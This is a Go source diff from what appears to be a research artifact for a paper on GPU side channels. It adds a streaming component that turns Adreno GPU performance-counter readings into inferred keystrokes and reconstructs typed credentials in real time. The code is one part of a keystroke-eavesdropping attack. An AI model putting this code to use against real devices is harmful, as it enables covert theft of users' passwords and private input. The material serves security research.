@@ -1,0 +1,73 @@
+package attack
+
+import (
+	"gpuleak/internal/adreno"
+	"gpuleak/internal/sim"
+	"gpuleak/internal/trace"
+)
+
+// Stream is the incremental form of the online phase: the caller feeds
+// counter readings as they arrive (e.g. from a timer loop inside the
+// attacking service) and receives key-press events through a callback the
+// moment they are inferred — the paper's real-time notification-bar
+// display (artifact appendix A.6). It produces exactly the same inference
+// as batch EavesdropTrace over the same readings.
+type Stream struct {
+	engine  *Engine
+	onKey   func(InferredKey)
+	last    [adreno.NumSelected]uint64
+	haveRef bool
+	emitted int
+}
+
+// NewStream builds a streaming inference session for one model. onKey may
+// be nil; inferred keys are also retrievable via Keys/Text. Note that the
+// §5 engine can retract keys (corrections, app-switch rollback), so
+// callback consumers should treat events as provisional until Text() is
+// read at the end.
+func NewStream(m *Model, interval sim.Time, opts OnlineOptions, onKey func(InferredKey)) *Stream {
+	return &Stream{
+		engine: NewEngine(m, interval, opts),
+		onKey:  onKey,
+	}
+}
+
+// Push consumes one counter reading taken at time t.
+func (s *Stream) Push(t sim.Time, values [adreno.NumSelected]uint64) {
+	if !s.haveRef {
+		s.last = values
+		s.haveRef = true
+		return
+	}
+	var d trace.Vec
+	changed := false
+	for i := range d {
+		d[i] = float64(values[i]) - float64(s.last[i])
+		if d[i] != 0 {
+			changed = true
+		}
+	}
+	s.last = values
+	if !changed {
+		return
+	}
+	s.engine.Process(trace.Delta{At: t, V: d})
+	if s.onKey != nil {
+		keys := s.engine.Keys()
+		for ; s.emitted < len(keys); s.emitted++ {
+			s.onKey(keys[s.emitted])
+		}
+		if s.emitted > len(keys) {
+			s.emitted = len(keys) // retraction happened
+		}
+	}
+}
+
+// Keys returns the keys inferred so far.
+func (s *Stream) Keys() []InferredKey { return s.engine.Keys() }
+
+// Text returns the credential inferred so far.
+func (s *Stream) Text() string { return s.engine.Text() }
+
+// Stats exposes the engine counters.
+func (s *Stream) Stats() EngineStats { return s.engine.Stats() }
